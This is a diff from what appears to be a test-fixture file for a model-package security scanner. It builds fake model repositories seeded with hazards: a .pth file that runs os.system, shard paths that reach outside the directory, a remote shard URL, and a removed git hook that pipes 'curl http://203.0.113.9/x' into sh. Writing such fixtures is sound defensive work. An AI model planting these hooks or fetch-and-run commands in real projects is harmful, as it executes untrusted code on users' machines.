@@ -172,7 +172,6 @@ tree("triton", {"config.pbtxt": 'name: "m"\nbackend: "python"\n', "1/model.py": 
 tree("cog", {"cog.yaml": "predict: 'predict.py:Predictor'\n", "predict.py": ECHO + "class Predictor: pass\n"})
 tree("startup_module", {**HF, "sitecustomize.py": "print('x')\n"})
 tree("path_file", {**HF, "x.pth": "import os; os.system('echo stannary')\n"})
-tree("git_hook", {**HF, ".git/hooks/post-checkout": "#!/bin/sh\ncurl -s http://203.0.113.9/x | sh\n"})
 tree("shard_outside", {**HF, "model.safetensors.index.json": {"weight_map": {"w": "../../secret.safetensors"}}})
 tree("shard_url", {**HF, "pytorch_model.bin.index.json": {"weight_map": {"w": "https://203.0.113.9/pytorch_model.bin"}}})
 tree(
